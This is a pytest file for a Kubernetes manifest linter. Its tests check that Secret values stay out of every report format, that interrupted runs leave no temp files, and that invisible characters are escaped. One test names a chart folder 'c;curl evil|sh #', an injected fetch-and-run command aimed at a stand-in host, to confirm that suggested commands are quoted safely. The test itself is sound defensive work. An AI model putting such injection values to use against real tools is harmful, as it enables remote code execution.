"""Ways of a Secret's content into a report, as independent attackers found them; each stands for its kind."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from elblint.inputs.kustomize.builder import find_builder
from elblint.text.printable import printable
from elblint.text.secret_scan import secret_spans
from support.project import LOCAL, Project

pytestmark = pytest.mark.unix

TOKEN = "TOKENtoken123"
FORMATS = ["text", "sarif", "json", "html", "github", "gitlab", "junit"]
SERVICE = "apiVersion: v1\nkind: Service\nmetadata: {name: web}\n"
needs_kustomize = pytest.mark.skipif(find_builder() is None, reason="no builder on this machine")


def hides(project: Project, *arguments: str) -> None:
    """Assert that no report of a run shows the token."""
    for kind in FORMATS:
        outcome = project.run("-f", kind, "--no-cache", *arguments)
        assert TOKEN not in (outcome.stdout + outcome.stderr).replace("\\u0000", ""), kind


ODD_KINDS = {
    "comment": "kind: # note\n  Secret\ndata:\n  p: {token}: x\n",
    "comment and annotation": "kind: # a\n  # b\n  Secret\nmetadata: {{annotations: {{a: {token}: x}}}}\n",
    "continued": 'kind: "Sec\\\n  ret"\ndata:\n  p: {token}: x\n',
    "handle of a tag": "%TAG !b! tag:yaml.org,2002:bin\n---\nkind: !b!ary U2VjcmV0\nx: {{p: {token}, p: {token}}}\n",
    "decoy": 'x: "\nkind: Service\n"\nkind: Secret\nmetadata: {{annotations: {{a: {token}: x}}}}\n',
    "block": "kind: >-\n  Secret\nmetadata: {{annotations: {{a: {token}: x}}}}\n",
    "complex key": "? kind # a\n: Secret\nmetadata: {{annotations: {{a: {token}: x}}}}\n",
    "aliases": "x: [&k kind, &v Secret]\n*k : *v\nmetadata: {{annotations: {{a: {token}: x}}}}\n",
    "anchor": "kind: &a Secret\nmetadata: {{annotations: {{a: {token}: x}}}}\n",
    "template": "kind: {{{{ .kind }}}}\ndata: {{a: {token}: x}}\n",
    "patch of all data": "- op: replace\n  path: /data\n  value: {{p: {token}: x: y]\n",
}


@pytest.mark.parametrize("how", ODD_KINDS)
def test_a_kind_that_is_spelt_oddly(project: Project, how: str) -> None:
    project.write("a.yaml", ODD_KINDS[how].format(token=TOKEN))
    hides(project, "a.yaml")
    hides(project, "--parse-all", "a.yaml")


@pytest.mark.parametrize(
    "text",
    [
        SERVICE,
        "kind: Deployment\nspec: {secretName: web, volumes: [{secret: {secretName: x}}]}\n",
        "kind: CustomResourceDefinition\nspec:\n  kind:\n    type: string\n  secret: {kind: {type: string}}\n",
        "kind: Certificate # a Secret is made\nspec: {ref: {kind: Secret, name: a}}\n",
        "kind: ConfigMap\ndata: {a: b}\n",
        "kind: StatefulSet\nspec: {volumes: [{secret: {secretName: a}}, {hostPath: {path: /data}}]}\n",
    ],
)
def test_other_objects_stay_in_sight(text: str) -> None:
    assert secret_spans(text) == []


def test_letters_of_another_encoding(project: Project) -> None:
    text = f"\u4e2d: 1, kind: Secret, stringData: {{p: {TOKEN}}}"
    project.write("a.yaml", text.encode("utf-16-le"))
    hides(project, "a.yaml")


def test_the_text_of_a_block_is_no_name(project: Project) -> None:
    project.write(
        "a.yaml",
        f"apiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\nstringData:\n     # comment\n  pw: |\n     {TOKEN}: x\n"
        "--- {apiVersion: v1, kind: Service, metadata: {name: web, annotations: {kubernetes.io/elb.class: union,"
        " kubernetes.io/elb.id: 3c7caa5a-a641-4bff-801a-feace27424b6, kubernetes.io/elb.pass-through: true}},"
        " spec: {type: LoadBalancer, selector: {app: a}, ports: [{port: 80, name: a}]}}\n",
    )
    hides(project, "a.yaml")


class TestKustomizations:
    @needs_kustomize
    @pytest.mark.parametrize(
        "settings",
        [
            'kind: "Secr\\\n  etGenerator"\nmetadata: {name: x}\nliterals: ["TOKENtoken123"]\n',
            "kind: SecretGenerator\nmetadata: {name: x}\nliterals: [TOKENtoken123]\n",
        ],
    )
    def test_what_a_builder_says_of_a_generator(self, project: Project, settings: str) -> None:
        project.write("svc.yaml", SERVICE)
        project.write("gen.yaml", "apiVersion: builtin\n" + settings)
        project.write("kustomization.yaml", "resources: [svc.yaml]\ngenerators: [gen.yaml]\n")
        hides(project, ".")

    @pytest.mark.parametrize("target", ["{kind: Secret}", '{kind: "Se.+t"}', "{name: db}"])
    def test_patches_that_may_aim_at_secrets(self, project: Project, target: str) -> None:
        project.write("svc.yaml", SERVICE)
        project.write(
            "p.yaml", f"- op: replace\n  path: /metadata/annotations/a\n  value: {{p: {TOKEN}: x: y]\n"
        )
        project.write(
            "kustomization.yaml",
            f"resources: [svc.yaml]\npatches: [{{path: p.yaml, target: {target}}}]\n",
        )
        hides(project, ".")
        os.unlink("p.yaml")
        patch = f"'[{{op: replace, path: /data, value: {{p: {TOKEN}}}}}]'"
        project.write(
            "kustomization.yaml",
            f"resources: [svc.yaml]\npatches: [{{target: {target}, patch: {patch}}}]  # elblint: ignore[FOO] x\n",
        )
        hides(project, "--fail-on", "note", ".")

    @pytest.mark.parametrize(
        "kustomization",
        [
            "generators: [gen.yaml]\n",
            'generators:\n- |-\n  kind: SecretGenerator\n  files: [token.yaml]\n  envs: ["e.yaml"]\n',
            "secretGenerator: [{name: x, files: [token.yaml, k=e.yaml]}]\n",
            "secretGenerator: [{name: x, files: [token.yaml, k=e.yaml]}]\nx: y: z\n",
        ],
        ids=["file", "inline", "field", "broken"],
    )
    def test_files_that_a_generator_reads(self, project: Project, kustomization: str) -> None:
        project.write("kustomization.yaml", kustomization)
        project.write("gen.yaml", "kind: SecretGenerator\nfiles: [token.yaml]\nenvs: [e.yaml]\n")
        for name in ("token.yaml", "e.yaml"):
            project.write(name, f"p: {TOKEN}: x\n")
        hides(project, "--no-kustomize", ".")
        hides(project, ".")


@pytest.mark.parametrize("name", ["values.yaml", "values-prod.yaml", "prod.yaml"])
def test_values_files_with_a_diagnostic(project: Project, name: str) -> None:
    project.write("c/Chart.yaml", "apiVersion: v2\nname: c\nversion: 1.0.0\n")
    project.write("c/templates/s.yaml", "kind: Secret\nstringData: {p: {{ .Values.pw }}}\n")
    project.write(f"c/{name}", f"pw: {TOKEN}: x\n")
    hides(project, "--no-helm", ".")
    project.run(".")
    assert TOKEN not in project.run(".").stdout


@pytest.mark.parametrize(
    ("secret", "annotations"),
    [
        ("{p: &x TOKENtoken123}", "{kubernetes.io/elb.class: *x, kubernetes.io/elb.pass-through: *x}"),
        ("&sd {kubernetes.io/elb.class: TOKENtoken123, kubernetes.io/elb.TOKENtoken123: x}", "{<<: *sd}"),
        ("{p: &x kubernetes.io/elb.TOKENtoken123}", "{*x : a, kubernetes.io/elb.class: union}"),
    ],
    ids=["alias", "merge", "key"],
)
def test_what_is_shared_with_a_secret(project: Project, secret: str, annotations: str) -> None:
    project.write(
        "a.yaml",
        "apiVersion: v1\nkind: List\nitems:\n"
        f"- apiVersion: v1\n  kind: Secret\n  metadata: {{name: s}}\n  stringData: {secret}\n"
        "- apiVersion: v1\n  kind: Service\n"
        f"  metadata: {{name: web, labels: {{kubernetes.io/elb.id: a}}, annotations: {annotations}}}\n"
        "  spec: {type: LoadBalancer, externalTrafficPolicy: Local, ports: [{port: 80}]}\n",
    )
    hides(project, "--fail-on", "note", "a.yaml")
    for command in (["reach", "a.yaml"], ["baseline", "a.yaml"], ["fix", "a.yaml"]):
        outcome = project.run(*command)
        assert TOKEN not in outcome.stdout + outcome.stderr
    assert TOKEN not in Path(".elblint-baseline.json").read_text()


@pytest.mark.skipif(not hasattr(signal, "SIGHUP"), reason="no such signal here")
@pytest.mark.parametrize("number", ["SIGHUP", "SIGTERM", "SIGINT"])
def test_a_run_that_is_ended_leaves_nothing_behind(project: Project, tmp_path: Path, number: str) -> None:
    tool = project.write("bin/kustomize", f"#!/bin/sh\n: > {tmp_path}/started\nsleep 60\n")
    tool.chmod(0o755)
    project.write(
        "m/s.yaml", f"apiVersion: v1\nkind: Secret\nmetadata: {{name: a}}\nstringData: {{p: {TOKEN}}}\n"
    )
    project.write("m/kustomization.yaml", "resources: [s.yaml]\n")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    started = tmp_path / "started"
    child = subprocess.Popen(
        [sys.executable, "-m", "elblint", "m"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env={**os.environ, "TMPDIR": str(scratch), "PATH": f"{tool.parent}:/usr/bin:/bin"},
    )  # fmt: skip
    while not started.exists() and child.poll() is None:
        time.sleep(0.02)
    child.send_signal(getattr(signal, number))
    assert child.wait() > 0
    assert not list(scratch.iterdir())


def test_a_command_that_is_advised_can_be_pasted(project: Project) -> None:
    project.write(
        "c;curl evil|sh #/Chart.yaml",
        "apiVersion: v2\nname: c\nversion: 1.0.0\ndependencies: [{name: d, version: 1, repository: 'https://x'}]\n",
    )
    project.write("c;curl evil|sh #/templates/a.yaml", LOCAL)
    shown = " ".join(project.run(".").stdout.split())
    assert "run: helm dependency build 'c;curl evil|sh #'" in shown or "ELB011" in shown


@pytest.mark.parametrize(
    "char", "\u034f\u115f\u17b4\u180b\u200b\u2060\u2800\u3164\ufe01\ufeff\uffa0\U000e0101"
)
def test_characters_that_show_nothing_are_spelt_out(project: Project, char: str) -> None:
    assert char not in printable(f"we{char}b")
    project.write("a.yaml", LOCAL.replace("name: web", f"name: we{char}b"))
    for kind in FORMATS:
        assert char not in project.run("-f", kind, "a.yaml").stdout


def test_fingerprints_are_those_of_the_files_repository(project: Project, tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / name / ".git").mkdir(parents=True)
    project.write("one/m/a.yaml", LOCAL)
    found = []
    for folder, path in ((".", "one/m"), ("one", "m"), ("one/m", "a.yaml"), ("two", "../one/m")):
        os.chdir(tmp_path / folder)
        (finding,) = json.loads(project.run("-f", "gitlab", path).stdout)
        found.append((finding["fingerprint"], finding["location"]["path"]))
    assert set(found) == {(found[0][0], "m/a.yaml")}
